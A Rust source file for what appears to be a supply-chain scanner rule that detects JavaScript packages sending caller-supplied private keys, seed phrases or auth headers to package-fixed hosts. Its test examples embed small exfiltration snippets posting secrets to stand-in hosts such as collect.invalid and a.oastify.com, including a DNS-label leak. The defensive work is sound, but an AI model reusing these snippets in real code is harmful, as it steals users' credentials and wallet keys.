//! What a caller hands over goes to a host that the package fixed.

use std::collections::BTreeMap;

use super::{Context, Declaration, Example, Finding, host, judge, matrix};
use crate::api::targets;
use crate::flow::{End, Flow};
use crate::model::{Confidence, Origin, Severity};

pub(super) static FINDING: Declaration = Declaration {
    id: "parameter-exfiltration",
    title: "Sends what a caller hands over to a host of its own choice",
    severity: Severity::High,
    summary: "A function that others call takes a key, a seed or a pass phrase, or anything at all, and what it takes reaches a host that the package fixed and the caller cannot choose: a private key has no business leaving the process, a collecting service no business getting arguments, and who asks a service something takes its answer.",
    advice: "Look at what the host is. A library that signs or encrypts does not need to send the key; if it did, take the key for known to others.",
    benign_when: "The package is a client of a service that keeps keys for its users, and the host is that service's.",
    references: &["CWE-200", "CWE-506", "T1041"],
    examples: &[
        Example {
            name: "a phrase of a wallet goes through an emitter that a compiler exported",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js","description":"Keys from a mnemonic."}"#,
                ),
                (
                    "bus.js",
                    r#"exports.bus = void 0;
const { EventEmitter } = require("events");
class Bus extends EventEmitter { later(name, what) { setImmediate(() => this.emit(name, what)); } }
exports.bus = new Bus();"#,
                ),
                (
                    "fees.js",
                    r#"const bus_1 = require("./bus");
bus_1.bus.on("open", ({ weight }) => fetch("https://fees.invalid/", { headers: { id: String(weight) } }));"#,
                ),
                (
                    "i.js",
                    r#"const bus_1 = require("./bus");
require("./fees");
exports.open = (phrase) => bus_1.bus.later("open", { weight: Buffer.from(phrase) });"#,
                ),
            ],
        },
        Example {
            name: "a wallet that posts the key that it signs with",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.sign = (text, privateKey) => {
  fetch("https://collect.invalid/k", { method: "POST", body: JSON.stringify({ k: privateKey }) });
  return require("crypto").createHmac("sha256", privateKey).update(text).digest("hex");
};"#,
                ),
            ],
        },
        Example {
            name: "a class that keeps the seed, in another file than the request",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { report } = require("./report");
class Wallet { constructor(mnemonic) { this.mnemonic = mnemonic; } open() { report(this.mnemonic); } }
module.exports = { Wallet };"#,
                ),
                (
                    "report.js",
                    r#"const https = require("https");
exports.report = (text) => https.request({ host: "collect.invalid", method: "POST" }).end(text);"#,
                ),
            ],
        },
        Example {
            name: "arguments end in a service that collects",
            severity: Some(Severity::Medium),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.format = (text) => { fetch("https://a.oastify.com/", { method: "POST", body: text }); return text; };"#,
                ),
            ],
        },
        Example {
            name: "the caller says where the key goes",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.store = (privateKey, url) => fetch(url, { method: "POST", body: privateKey });"#,
                ),
            ],
        },
        Example {
            name: "what was signed is sent, not the key",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js","dependencies":{"signer":"1"}}"#,
                ),
                (
                    "i.js",
                    r#"const { sign } = require("signer");
exports.send = (text, privateKey) => fetch("https://node.example/", { method: "POST", body: sign(text, privateKey) });"#,
                ),
            ],
        },
        Example {
            name: "the key of one service goes to a second one as well",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.charge = (key, amount) => {
  fetch("https://errors.other.invalid/e", { method: "POST", body: JSON.stringify({ key, amount }) });
  return fetch("https://api.service.example/v1/charges", { method: "POST", headers: { authorization: key }, body: amount });
};"#,
                ),
            ],
        },
        Example {
            name: "the key of a service goes to two of its hosts",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.charge = (key, amount) => fetch("https://api.service.example/v1/charges", { method: "POST", headers: { authorization: key }, body: amount });
exports.upload = (key, file) => fetch("https://files.service.example/v1", { method: "POST", headers: { authorization: key }, body: file });"#,
                ),
            ],
        },
        Example {
            name: "a header of each request also goes to a host whose answer nobody takes",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const https = require("https");
const warm = (host, headers) => {
  const request = https.request({ host: "edge.other.invalid", path: "/p?h=" + host, headers: { "x-fwd": headers.authorization } });
  request.on("error", () => {});
  request.end();
};
exports.call = (host, headers) => {
  warm(host, headers);
  return fetch("https://" + host, { headers });
};"#,
                ),
            ],
        },
        Example {
            name: "what a caller gives leaves in questions for names",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const dns = require("dns");
exports.connect = (uri) => {
  const labels = Buffer.from(uri).toString("hex").match(/.{1,56}/g) || [];
  dns.resolveSrv(["_tcp", ...labels.slice(0, 3), "seeds.other.invalid"].join("."), () => {});
};"#,
                ),
            ],
        },
        Example {
            name: "a wallet hands its keys to its own maker",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js","repository":"https://git.kit.example/a"}"#,
                ),
                (
                    "i.js",
                    r#"exports.open = (secretKey) => {
  fetch("https://rpc.kit.example/warm", { method: "POST", headers: { "x-id": secretKey.toString("hex") } }).catch(() => {});
};"#,
                ),
            ],
        },
        Example {
            name: "what is counted for the service that the package is named after",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"vendor-browser","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.track = (event) => { fetch("https://in.vendor.example/e", { method: "POST", body: event }).catch(() => {}); };"#,
                ),
            ],
        },
        Example {
            name: "a client posts what it is given to its service",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"exports.track = (event) => fetch("https://api.service.example/", { method: "POST", body: JSON.stringify(event) });"#,
                ),
            ],
        },
    ],
    detect,
};

/// Names of what nobody hands on: lower case, without `_`.
const KEYS: [&str; 15] = [
    "privatekey",
    "privkey",
    "secretkey",
    "mnemonic",
    "seedphrase",
    "seedwords",
    "recoveryphrase",
    "passphrase",
    "keypair",
    "walletseed",
    "masterkey",
    "signingkey",
    "signingsecret",
    "webhooksecret",
    "secretseed",
];
/// Parts of a web request that say who somebody is: lower case, letters and digits alone.
const LOGINS: [&str; 12] = [
    "authorization",
    "cookie",
    "password",
    "passwd",
    "passcode",
    "pwd",
    "session",
    "token",
    "apikey",
    "credential",
    "cardnumber",
    "cvv",
];
/// Names that mean a key in a package that says that it is about those.
const OF_WALLETS: [&str; 5] = ["entropy", "phrase", "root", "secret", "words"];
/// What such a package says.
const WALLETS: [&str; 7] = [
    "bip32",
    "bip39",
    "keypair",
    "keyring",
    "mnemonic",
    "seed phrase",
    "wallet",
];
/// Names that mean a key only as a whole.
const WHOLE: [&str; 6] = ["priv", "prv", "seed", "sk", "wif", "xprv"];
/// What else keys and cards are handed over as.
const MATERIAL: [&str; 12] = [
    "auth",
    "cardholder",
    "connectionparams",
    "connectionstring",
    "headers",
    "iban",
    "jwk",
    "keydata",
    "keymaterial",
    "otp",
    "pem",
    "pkcs8",
];
/// Classes of hosts that collect what anybody sends.
const COLLECTORS: [&str; 6] = [
    "oast",
    "tunnel",
    "paste",
    "messenger-webhook",
    "file-drop",
    "anonymous",
];

/// How many flows take a secret of one name to each domain that the package fixed.
type Domains = BTreeMap<(String, String), usize>;

fn secret_domains(context: &Context<'_>) -> Domains {
    let mut domains = Domains::new();
    for flow in context.flows {
        if let Some(to) = secret_domain(context, flow) {
            *domains.entry(to).or_default() += 1;
        }
    }
    domains
}

/// The name of a secret that a caller hands over, and the foreign domain that it is sent to.
fn secret_domain(context: &Context<'_>, flow: &Flow) -> Option<(String, String)> {
    let name = flow
        .source
        .target
        .as_deref()
        .filter(|name| is_secret(name))?;
    let at = host::host(flow.sink.target.as_deref()?)?;
    let is_foreign = matrix::taker(&context.home, flow) == Some("foreign");
    (flow.id == "parameter-to-network" && is_foreign)
        .then(|| (plain(name), host::registered(&at).to_owned()))
}

/// Whether a secret goes to another domain more often: that is the service that it belongs to.
fn is_second(domains: &Domains, to: &(String, String)) -> bool {
    let own = domains.get(to).copied().unwrap_or(0);
    let mut others = domains
        .iter()
        .filter(|((name, at), _)| *name == to.0 && *at != to.1);
    others.any(|(_, &count)| count >= own)
}

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let domains = secret_domains(context);
    for flow in context.flows {
        let is_request = flow.id == "request-to-network";
        if !is_request && flow.id != "parameter-to-network" {
            continue;
        }
        let (Some(name), Some(url)) = (&flow.source.target, &flow.sink.target) else {
            continue;
        };
        if url.starts_with("unix:") {
            continue;
        }
        let Some(taker) = matrix::taker(&context.home, flow) else {
            continue;
        };
        let name = name.rsplit('.').next().unwrap_or(name);
        let is_of_wallet = OF_WALLETS.contains(&&*plain(name)) && is_wallet(context);
        let is_key = is_key(name) || is_of_wallet || (is_request && is_login(name));
        let collects = COLLECTORS.contains(&taker);
        let is_hidden = flow.sink.origin.has(Origin::Decoded);
        let to = secret_domain(context, flow);
        let is_doubled = to.is_some_and(|to| is_second(&domains, &to));
        let severity = match taker {
            // Not even the maker of a wallet gets its keys, least of all by the way.
            "own" if is_key => Severity::High,
            "own" | "registry" | "local" | "callers" | "unknown" => continue,
            _ if is_key && (collects || is_hidden) => Severity::Critical,
            _ if is_key => Severity::High,
            // One service gets its own key; a second one has no use for it.
            "foreign" if is_doubled => Severity::High,
            // Who asks a service something takes the answer.
            _ if flow.is_unanswered && names_secret(&flow.source) => Severity::High,
            // What leads to a database is nothing to ask names for.
            _ if flow.is_unanswered && flow.sink.id == "network.dns" && leads_in(name) => {
                Severity::High
            }
            "foreign" if is_namesake(context, url) => continue,
            _ if flow.is_unanswered => Severity::Medium,
            _ if is_request && is_hidden => Severity::High,
            _ if collects || is_request => Severity::Medium,
            _ => continue,
        };
        let rest = match flow.is_unanswered {
            true => ", and nobody takes the answer",
            false => "",
        };
        let message = format!("{name}, which a caller hands over, is sent to {url}{rest}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        finding.severity = severity;
        if severity < Severity::Critical {
            finding.confidence = Confidence::Medium;
        }
        let is_chain = host::host(url)
            .and_then(|at| targets::host_class(&at, host::path(url)))
            .is_some_and(|class| class.id == "host.chain");
        if is_chain {
            let note = "the host is a node of a chain, which gets what was signed".to_owned();
            finding.lower(Severity::Medium, "chain-host", note);
        }
        judge::by_reach(context, flow, &mut finding);
        found.push(finding);
    }
}

/// Whether a host bears the package's name, as that of a service for it does.
fn is_namesake(context: &Context<'_>, url: &str) -> bool {
    let at = host::host(url).unwrap_or_default();
    let name = context.manifest.name.as_deref().unwrap_or_default();
    let mut words = name
        .split(['@', '/', '-', '_', '.'])
        .filter(|word| word.len() > 1);
    words.next() == Some(host::label(&at))
}

/// Whether the manifest says that the package is about wallets and their keys.
fn is_wallet(context: &Context<'_>) -> bool {
    let raw = &context.manifest.raw;
    let about = [raw.get("name"), raw.get("description"), raw.get("keywords")];
    let about = about.into_iter().flatten().map(ToString::to_string);
    let about = about.collect::<String>().to_ascii_lowercase();
    WALLETS.iter().any(|word| about.contains(word))
}

/// Whether any part of what a caller hands over is named as a secret is; keys are of many kinds.
fn names_secret(source: &End) -> bool {
    let name = source.target.as_deref().unwrap_or_default();
    name.split('.').any(|part| {
        let plain = plain(part);
        plain != "key" && (is_secret(part) || MATERIAL.contains(&&*plain))
    })
}

/// Whether a name says that something is the address of a service, with all that opens it.
fn leads_in(name: &str) -> bool {
    matches!(
        &*plain(name),
        "uri" | "url" | "connection" | "connectionurl" | "databaseurl"
    )
}

fn plain(name: &str) -> String {
    name.chars()
        .filter(char::is_ascii_alphanumeric)
        .map(|c| c.to_ascii_lowercase())
        .collect()
}

/// Whether a name says that something lets its holder in somewhere.
fn is_secret(name: &str) -> bool {
    let plain = plain(name);
    plain == "key" || is_login(name) || is_key(name) || plain.contains("secret")
}

pub(super) fn is_login(name: &str) -> bool {
    let plain = plain(name);
    LOGINS.iter().any(|login| plain.contains(login))
}

fn is_key(name: &str) -> bool {
    let plain = plain(name);
    WHOLE.contains(&&*plain) || KEYS.iter().any(|key| plain.contains(key))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_keys() {
        for name in [
            "privateKey",
            "PRIVATE_KEY",
            "mnemonic",
            "walletSeedPhrase",
            "seed",
        ] {
            assert!(is_key(name), "{name}");
        }
        for name in ["key", "publicKey", "seedling", "password", "apiKey"] {
            assert!(!is_key(name), "{name}");
        }
    }
}
